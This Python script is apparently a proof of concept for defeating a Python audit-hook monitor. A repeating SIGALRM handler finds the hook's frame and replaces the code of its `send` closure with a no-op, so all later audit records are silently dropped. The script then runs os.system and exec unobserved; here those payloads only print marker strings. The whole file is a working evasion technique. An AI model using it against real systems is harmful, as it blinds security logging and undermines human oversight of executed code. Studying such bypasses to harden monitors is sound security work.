# a signal handler runs Python code *inside* the audit hook (at the hook's first instruction), sees the
# hook's frame and its closure (f_locals holds the free variables) and swaps the code of its `send`:
# every later record is silently dropped. Deterministic enough: a repeating timer while raising an
# unjudged event in a loop; no judged event is raised until the swap is done.
import os, signal, sys
def _factory():
    dumps = fd = pipe = getpid = fstat = write = exit_now = None
    def send(record):
        return (dumps, fd, pipe, getpid, fstat, write, exit_now) and None
    return send
done = []
def handler(sig, frame):
    f = frame
    while f is not None and not done:
        if f.f_code.co_name == "hook" and "send" in f.f_locals:
            send = f.f_locals["send"]
            noop = _factory()
            if len(send.__code__.co_freevars) == len(noop.__code__.co_freevars):
                send.__code__ = noop.__code__
                done.append(send.__code__.co_freevars)
            return
        f = f.f_back
signal.signal(signal.SIGALRM, handler)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
while not done:
    sys.audit("probe.tick")             # an event the hook ignores: it just runs
signal.setitimer(signal.ITIMER_REAL, 0)
print("SEND-SWAPPED", done)
os.system("echo SIGNAL-SILENCED-SYSTEM-RAN")
exec("print('SIGNAL-SILENCED-EXEC-RAN')")
